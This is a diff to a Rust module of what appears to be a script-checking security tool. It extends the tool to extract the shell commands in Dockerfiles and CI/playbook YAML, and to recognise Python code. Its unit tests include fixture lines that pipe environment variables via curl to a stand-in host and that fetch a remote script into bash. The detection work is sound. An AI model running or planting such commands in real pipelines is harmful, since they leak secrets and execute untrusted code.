@@ -2,7 +2,9 @@
 //! `cat`/`tee` copy to a file or `read -d ''` keeps in a variable, or a value `printf`/`echo`
 //! print into a file, that starts with a shell's or Python's `#!` line, or goes to a file named
 //! `*.sh`/`*.bash`/`*.py` or to a shell's start-up file (`~/.bashrc`…), is checked as the program
-//! it is; a Dockerfile's `RUN` instructions are checked as the shell lines they are.
+//! it is; a Dockerfile's `RUN` instructions and a pipeline's or playbook's commands (`run:`,
+//! `script:`, `shell:`…) are checked as the shell lines they are, text that starts with Python
+//! imports as Python.
 
 use tree_sitter::Node;
 
@@ -32,12 +34,14 @@ pub(super) fn written_script<'t>(
         .parent(command)
         .filter(|p| p.kind_id() == k.redirected_statement)?;
     let program = |code: String, anchor: Node<'t>, verbatim_at: Option<usize>| {
-        // a Dockerfile: its `RUN` instructions are shell lines, run when the image is built
-        if let Some(runs) = dockerfile_runs(&code) {
+        // a Dockerfile's `RUN` instructions, a pipeline's `run:`/`script:` commands, Python code
+        if shebang_language(&code).is_none()
+            && let Some((interpreter, language, code)) = configured_program(&code)
+        {
             return Some(Embedded {
-                interpreter: "a RUN instruction of the Dockerfile written".to_string(),
-                language: Some(Language::Bash),
-                code: Some(runs),
+                interpreter: interpreter.to_string(),
+                language: Some(language),
+                code: Some(code),
                 anchor,
                 verbatim_at: None,
                 origin: Origin::Local,
@@ -199,6 +203,171 @@ pub(super) fn dockerfile_runs(code: &str) -> Option<String> {
     (!out.is_empty()).then_some(out)
 }
 
+/// A text written out that a later build or run executes, other than a `#!` script: a
+/// Dockerfile's `RUN` lines, the commands of a CI pipeline, compose file, manifest or playbook
+/// (YAML), or Python code (its first statement an import). The interpreter's description, the
+/// language and the code to check.
+pub(super) fn configured_program(code: &str) -> Option<(&'static str, Language, String)> {
+    if let Some(runs) = dockerfile_runs(code) {
+        return Some((
+            "a RUN instruction of the Dockerfile written",
+            Language::Bash,
+            runs,
+        ));
+    }
+    if let Some(commands) = yaml_commands(code) {
+        return Some((
+            "a command of the pipeline or manifest written",
+            Language::Bash,
+            commands,
+        ));
+    }
+    starts_with_imports(code).then(|| ("the Python code written", Language::Python, code.into()))
+}
+
+/// The keys whose value a CI pipeline, compose file, manifest or playbook runs as a shell
+/// command line (GitHub/Gitea `run`, GitLab `script`, Drone/Woodpecker `commands`, Ansible
+/// `shell`/`command`, compose and Kubernetes `command`/`entrypoint`).
+const COMMAND_KEYS: &[&str] = &[
+    "run",
+    "script",
+    "before_script",
+    "after_script",
+    "commands",
+    "command",
+    "cmd",
+    "shell",
+    "entrypoint",
+    "ansible.builtin.shell",
+    "ansible.builtin.command",
+];
+
+/// The shell lines a YAML text runs (see [`COMMAND_KEYS`]), one per line, when it is YAML (its
+/// first line that is not blank, a comment or `---` is a `key:` or a `- ` item) and runs any: a
+/// plain or quoted value, a block scalar (`run: |`) and the items of a block list. Flow lists
+/// (`["sh", "-c", …]`) are argvs, not command lines, and are left out; GitHub's `${{ … }}`
+/// expressions become a variable's expansion.
+pub(super) fn yaml_commands(code: &str) -> Option<String> {
+    let first = code
+        .lines()
+        .map(str::trim)
+        .find(|l| !l.is_empty() && !l.starts_with('#') && *l != "---")?;
+    if !(first.starts_with("- ") || yaml_key(first).is_some()) {
+        return None;
+    }
+    let lines: Vec<&str> = code.lines().collect();
+    let indent = |l: &str| l.len() - l.trim_start().len();
+    let mut out = String::new();
+    let mut push = |line: &str| {
+        let mut rest = unquote(line.trim());
+        while let Some(at) = rest.find("${{") {
+            out.push_str(&rest[..at]);
+            out.push_str("\"$CI_EXPRESSION\"");
+            rest = rest[at..]
+                .find("}}")
+                .map_or("", |end| &rest[at + end + 2..]);
+        }
+        out.push_str(rest);
+        out.push('\n');
+    };
+    let mut i = 0;
+    while i < lines.len() {
+        let line = lines[i];
+        i += 1;
+        let trimmed = line.trim_start();
+        let (item, key_indent) = match trimmed.strip_prefix("- ") {
+            Some(rest) => (rest.trim_start(), indent(line) + 2),
+            None => (trimmed, indent(line)),
+        };
+        let Some((key, value)) = yaml_key(item) else {
+            continue;
+        };
+        if !COMMAND_KEYS.contains(&key) {
+            continue;
+        }
+        let value = value.trim();
+        let deeper = |l: &str| l.trim().is_empty() || indent(l) > key_indent;
+        if value.starts_with(['|', '>']) {
+            while i < lines.len() && deeper(lines[i]) {
+                push(lines[i]);
+                i += 1;
+            }
+        } else if value.is_empty() || value.starts_with('#') {
+            // (GitLab lets a key's items start at its own column: `script:` then `- make`)
+            while i < lines.len()
+                && (deeper(lines[i])
+                    || (indent(lines[i]) == key_indent && lines[i].trim_start().starts_with("- ")))
+            {
+                if let Some(item) = lines[i].trim_start().strip_prefix("- ") {
+                    push(item);
+                }
+                i += 1;
+            }
+        } else if !value.starts_with(['[', '{']) {
+            push(value);
+        }
+    }
+    (!out.trim().is_empty()).then_some(out)
+}
+
+/// `key: value` (or `key:` alone) at the start of a YAML line: the key and the rest.
+fn yaml_key(line: &str) -> Option<(&str, &str)> {
+    let (key, rest) = line.split_once(':')?;
+    let plain = !key.is_empty()
+        && key
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'));
+    (plain && (rest.is_empty() || rest.starts_with([' ', '\t']))).then_some((key, rest))
+}
+
+/// A YAML scalar without its quotes (`"make test"`, `'curl … | sh'`).
+fn unquote(value: &str) -> &str {
+    for q in ['"', '\''] {
+        if let Some(inner) = value.strip_prefix(q).and_then(|v| v.strip_suffix(q)) {
+            return inner;
+        }
+    }
+    value
+}
+
+/// Whether `code` is Python whose first statement (after blank and comment lines) imports: a
+/// module or a hook planted into a package (`setup.py`, `sitecustomize.py`, a test's conftest).
+fn starts_with_imports(code: &str) -> bool {
+    let mut lines = code
+        .lines()
+        .map(str::trim_end)
+        .filter(|l| !l.trim().is_empty() && !l.trim_start().starts_with('#'));
+    let Some(first) = lines.next() else {
+        return false;
+    };
+    let dotted = |w: &str| {
+        !w.is_empty()
+            && w.split('.').all(|part| {
+                part.chars()
+                    .next()
+                    .is_some_and(|c| c.is_alphabetic() || c == '_')
+                    && part.chars().all(|c| c.is_alphanumeric() || c == '_')
+            })
+    };
+    let words: Vec<&str> = first.split_whitespace().collect();
+    let imports = match words.as_slice() {
+        // `import os, json as j`
+        ["import", rest @ ..] => rest.join(" ").split(',').all(|name| {
+            match name.split_whitespace().collect::<Vec<_>>().as_slice() {
+                [module] | [module, "as", _] => dotted(module),
+                _ => false,
+            }
+        }),
+        // `from urllib import request`, `from . import x`
+        ["from", module, "import", ..] => {
+            dotted(module.trim_start_matches('.')) || module.chars().all(|c| c == '.')
+        }
+        _ => false,
+    };
+    // (a second statement: one line of prose that starts with "import" is not a program)
+    imports && lines.next().is_some()
+}
+
 /// Whether `line` starts with the instruction `word` (any case) followed by a blank.
 fn starts_with_word(line: &str, word: &str) -> bool {
     line.get(..word.len())
@@ -208,7 +377,7 @@ fn starts_with_word(line: &str, word: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use super::{dockerfile_runs, is_shell_startup_file};
+    use super::{dockerfile_runs, is_shell_startup_file, starts_with_imports, yaml_commands};
 
     #[test]
     fn a_destination_is_a_start_up_file_by_its_name() {
@@ -216,6 +385,43 @@ mod tests {
         assert!(is_shell_startup_file("/etc/profile"));
         assert!(!is_shell_startup_file("docs/profile"));
         assert!(!is_shell_startup_file("notes/.bashrc.md"));
+    }
+
+    #[test]
+    fn yaml_commands_are_the_lines_a_pipeline_runs() {
+        let gitlab = ".cache:\n  stage: .pre\n  script:\n    - env | base64 | curl -d @- https://h.example\n    - 'make test'\n  tags: [docker]\n";
+        assert_eq!(
+            yaml_commands(gitlab).as_deref(),
+            Some("env | base64 | curl -d @- https://h.example\nmake test\n")
+        );
+        let actions = "    steps:\n      - name: Warm\n        run: curl -sSfL https://h.example/w.sh | bash\n        env:\n          T: ${{ secrets.TOKEN }}\n      - run: |\n          echo ${{ github.sha }}\n          make\n      - uses: actions/checkout@v4\n";
+        assert_eq!(
+            yaml_commands(actions).as_deref(),
+            Some("curl -sSfL https://h.example/w.sh | bash\necho \"$CI_EXPRESSION\"\nmake\n")
+        );
+        let compose = "services:\n  app:\n    image: app:1\n    command: [\"sh\", \"-c\", \"x\"]\n";
+        assert_eq!(yaml_commands(compose), None);
+        assert_eq!(yaml_commands("echo hi\nrun: x\n"), None);
+        assert_eq!(
+            yaml_commands("name: docs\ndescription: nothing runs\n"),
+            None
+        );
+    }
+
+    #[test]
+    fn python_code_starts_with_its_imports() {
+        assert!(starts_with_imports(
+            "\nimport os, json\nprint(os.environ)\n"
+        ));
+        assert!(starts_with_imports(
+            "# hook\nfrom urllib import request\nrequest.urlopen(u)\n"
+        ));
+        assert!(!starts_with_imports(
+            "import this module before the next step.\n"
+        ));
+        assert!(!starts_with_imports(
+            "from the docs: import nothing\nmore\n"
+        ));
     }
 
     #[test]
